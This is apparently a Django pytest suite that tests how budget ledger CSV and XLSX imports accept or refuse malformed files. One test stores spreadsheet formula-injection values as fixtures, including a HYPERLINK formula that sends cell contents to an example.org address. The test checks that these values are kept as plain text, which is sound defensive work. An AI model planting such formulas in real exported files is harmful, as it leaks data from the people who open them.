"""Files as people make them: each is accepted or refused alike by every way in."""

import pytest
from django.utils.translation import override

from carsi_tracker.accounts.models import User
from carsi_tracker.ledger import posting
from carsi_tracker.ledger.models import Batch, Commitment, Line
from tests import factories
from tests.imports.conftest import Way, case, nothing_made, rows
from tests.sourced import COMMITMENTS


def test_a_byte_order_mark_is_no_part_of_the_first_heading(any_way: Way) -> None:
    outcome = any_way("bom.csv", case("bom.csv"))
    assert outcome.entries == [
        ("CARSI-08-INCLE-60", "committed", "250000.00", "2009-06-15"),
        ("CARSI-08-INCLE-60", "obligated", "150000.00", "2009-07-01"),
    ]
    first = Line.objects.filter(batch=outcome.batch).first()
    assert first
    assert first.note == "Ampliación del modelo de Villa Nueva"


def test_a_file_in_the_old_windows_encoding_is_refused_with_how_to_save_it(file_way: Way) -> None:
    outcome = file_way("cp1252.csv", case("cp1252.csv"))
    assert (2, "title", "Equipo de inspecci\\xf3n fronteriza, Honduras") in outcome.places
    assert all(
        "not UTF-8" in fault.message and "CSV UTF-8" in fault.message for fault in outcome.faults
    )
    assert nothing_made()


def test_semicolons_and_decimal_commas(any_way: Way) -> None:
    outcome = any_way("semicolon.csv", case("semicolon.csv"))
    assert outcome.entries == [
        ("CARSI-08-INCLE-62", "committed", "300000.00", "2010-02-15"),
        ("CARSI-08-INCLE-62", "obligated", "125000.50", "2010-03-01"),
    ]
    notes = Line.objects.filter(batch=outcome.batch).values_list("note", flat=True)
    assert notes[0] == "Primera entrega; incluye repuestos, capacitación"


def test_amounts_in_every_form_with_one_reading(any_way: Way) -> None:
    outcome = any_way("amount-forms.csv", case("amount-forms.csv"))
    assert [amount for _reference, _stage, amount, _day in outcome.entries] == [
        "1250000.50",
        "750000.00",
        "-500000.00",
        "-250000.00",
        "-100000.00",
        "-7500.00",
        "1234567.50",
        "1234.50",
    ]


def test_amounts_with_two_readings_or_none_are_all_named(any_way: Way) -> None:
    outcome = any_way("amount-refused.csv", case("amount-refused.csv"))
    values = (
        "613.000",
        "-1.000",
        "1E+06",
        "NaN",
        "Infinity",
        "1,23,456.00",
        "1234.567",
        "n/a",
        "",
    )
    assert outcome.places == [
        (row, "amount_usd", value) for row, value in enumerate(values, start=2)
    ]
    assert "613.00 or as 613,000.00" in outcome.faults[0].message
    assert nothing_made()


def test_number_cells_count_to_fifteen_digits_and_date_cells_as_dates(file_way: Way) -> None:
    outcome = file_way("cells.xlsx", case("cells.xlsx"))
    assert outcome.entries == [
        ("CARSI-08-INCLE-72", "committed", "300000.30", "2009-03-13"),
        ("CARSI-08-INCLE-72", "obligated", "1803.60", "2009-03-30"),
        ("CARSI-08-INCLE-72", "obligated", "100000.00", "2009-04-30"),
    ]
    commitment = Commitment.objects.select_related("appropriation", "goal").get(
        reference="CARSI-08-INCLE-72"
    )
    assert commitment.appropriation.fiscal_year == 2008
    assert commitment.goal
    assert commitment.goal.number == 2


def test_a_day_number_is_no_date(file_way: Way) -> None:
    outcome = file_way("serial.xlsx", case("serial.xlsx"))
    assert outcome.places == [(3, "effective_date", "39885")]
    assert outcome.faults[0].sheet == "Allocations"
    assert "March 13, 2009" in outcome.faults[0].message
    assert nothing_made()


def test_dates_with_one_reading(any_way: Way) -> None:
    outcome = any_way("dates-ok.csv", case("dates-ok.csv"))
    assert [day for *_rest, day in outcome.entries] == ["2009-03-13", "2009-03-30", "2009-04-30"]


def test_dates_with_two_readings_and_days_that_are_none(any_way: Way) -> None:
    outcome = any_way("dates-refused.csv", case("dates-refused.csv"))
    assert outcome.places == [
        (3, "effective_date", "09/02/2009"),
        (4, "effective_date", "2009-02-30"),
    ]
    assert "February 9, 2009 or as September 2, 2009" in outcome.faults[0].message
    assert nothing_made()


@pytest.mark.parametrize(("name", "second"), [("blank-tail.xlsx", 3), ("blank-tail.csv", 4)])
def test_blank_rows_are_nothing(file_way: Way, name: str, second: int) -> None:
    outcome = file_way(name, case(name))
    assert outcome.entries == [
        ("CARSI-08-INCLE-73", "committed", "400000.00", "2010-02-01"),
        ("CARSI-08-INCLE-73", "obligated", "150000.00", "2010-02-15"),
    ]
    assert not outcome.warnings


def test_a_fault_after_blank_rows_keeps_its_number(any_way: Way) -> None:
    outcome = any_way("blank.csv", case("blank-tail.csv").replace(b"150000.00", b"150.000"))
    assert outcome.places == [(4, "amount_usd", "150.000")]


def test_a_hidden_sheet_is_named_and_not_read(file_way: Way) -> None:
    outcome = file_way("hidden-first.xlsx", case("hidden-first.xlsx"))
    assert outcome.entries == [("CARSI-08-INCLE-73", "committed", "400000.00", "2010-02-01")]
    assert outcome.warnings == ["The sheet “2008 draft” is hidden and was not read."]


def test_headings_that_are_unknown_or_stand_twice(any_way: Way) -> None:
    outcome = any_way("unknown-column.csv", case("unknown-column.csv"))
    assert outcome.places == [(1, "patner", "patner"), (1, "note", "note")]
    assert "Probably meant: partner." in outcome.said
    assert nothing_made()


def test_headings_in_another_order_and_case(any_way: Way) -> None:
    outcome = any_way("header-case.csv", case("header-case.csv"))
    assert outcome.entries == [("CARSI-08-INCLE-66", "committed", "80000.00", "2009-06-15")]
    commitment = Commitment.objects.select_related("partner").get(reference="CARSI-08-INCLE-66")
    assert commitment.partner
    assert commitment.partner.code == "Organization of American States"


def test_codes_without_regard_to_case_and_spaces(any_way: Way) -> None:
    outcome = any_way("codes.csv", case("codes.csv"))
    assert outcome.entries == [
        ("CARSI-08-INCLE-03", "committed", "50000.00", "2010-02-01"),
        ("CARSI-08-INCLE-03", "obligated", "50000.00", "2010-02-01"),
    ]
    assert Commitment.objects.count() == COMMITMENTS


def test_codes_that_only_look_alike(any_way: Way) -> None:
    outcome = any_way("codes-lookalike.csv", case("codes-lookalike.csv"))
    assert [(fault.row, fault.column) for fault in outcome.faults] == [
        (2, "reference"),
        (3, "reference"),
    ]
    assert all("Probably meant: CARSI-08-INCLE-03." in fault.message for fault in outcome.faults)
    assert nothing_made()


@pytest.mark.parametrize("state", ["draft", "submitted", "posted"])
def test_rows_that_a_batch_has_already_have_to_be_called_new(
    any_way: Way, ana: User, state: str
) -> None:
    first = any_way("twice.csv", case("twice.csv"))
    assert [amount for _reference, _stage, amount, _day in first.entries] == [
        "200000.00",
        "100000.00",
        "100000.00",
    ]
    assert "Rows 3, 4 are alike" in first.said
    assert first.batch
    if state == "submitted":
        factories.submitted(first.batch, ana)
    elif state == "posted":
        digest = factories.submitted(first.batch, ana)
        with posting.acting(factories.approver()):
            posting.enter(first.batch.pk, digest)
    second = any_way("twice.csv", case("twice.csv"))
    assert not second.accepted
    assert second.batch is None
    assert "3 of 3 rows are already in" in second.said
    assert f"“{first.batch.title}”" in second.said
    third = any_way("twice.csv", case("twice.csv"), new=True)
    if state == "posted":
        assert len(third.entries) == 3
    else:
        assert third.batch is None
        assert "CARSI-08-INCLE-67 is new in the unposted batch" in third.said
        assert Batch.objects.exclude(state="posted").count() == 1


def test_rows_that_a_draft_has_already_do_not_wait_for_it_besides(command: Way) -> None:
    command("twice.csv", case("twice.csv"))
    said = command("twice.csv", case("twice.csv")).said
    assert "3 of 3 rows are already in" in said
    assert "is introduced by the batch" not in said


def test_an_earlier_entry_is_checked_on_every_later_day(any_way: Way) -> None:
    outcome = any_way("backdated.csv", case("backdated.csv"))
    assert [fault.message for fault in outcome.faults] == [
        "CARSI-08-INCLE-68, INCLE FY2008: $11,500,000.00 is more than the uncommitted balance of "
        "$11,010,500.00 on "
        "September 25, 2009. Lower the amount or change the date."
    ]
    assert nothing_made()


def test_what_is_left_to_the_cent_is_accepted_and_a_cent_more_is_not(any_way: Way) -> None:
    more = case("backdated-exact.csv").replace(b"11010500.00", b"11010500.01")
    assert not any_way("more.csv", more).accepted
    assert nothing_made()
    assert any_way("backdated-exact.csv", case("backdated-exact.csv")).accepted


def test_text_is_taken_as_it_is(any_way: Way) -> None:
    outcome = any_way("formulas.csv", case("formulas.csv"))
    first, second = Line.objects.filter(batch=outcome.batch).order_by("pk")
    assert first.note == '=HYPERLINK("http://example.org/?x="&A2,"open")'
    assert first.locator == "-2+3"
    assert second.note == "-"
    assert second.commitment
    assert second.commitment.title == "@Puesto fronterizo, Honduras"
    assert str(second.commitment.partner) == "+504 Fundación"
    assert "The partner “+504 Fundación” is new" in outcome.said


@pytest.mark.parametrize("language", ["en", "es"])
@pytest.mark.parametrize(
    ("stage", "basis"),
    [
        ("Comprometido", "según documento"),
        ("comprometido", "indicado"),
        ("COMMITTED", "Deducido"),
        ("committed", "según la prensa"),
    ],
)
def test_words_of_the_spanish_table_are_taken_in_both_languages(
    any_way: Way, language: str, stage: str, basis: str
) -> None:
    with override(language):
        outcome = any_way("amounts.csv", rows({"stage": stage, "basis": basis}))
    assert outcome.accepted, outcome.said
    assert outcome.batch
    assert outcome.batch.lines.get().stage == "committed"
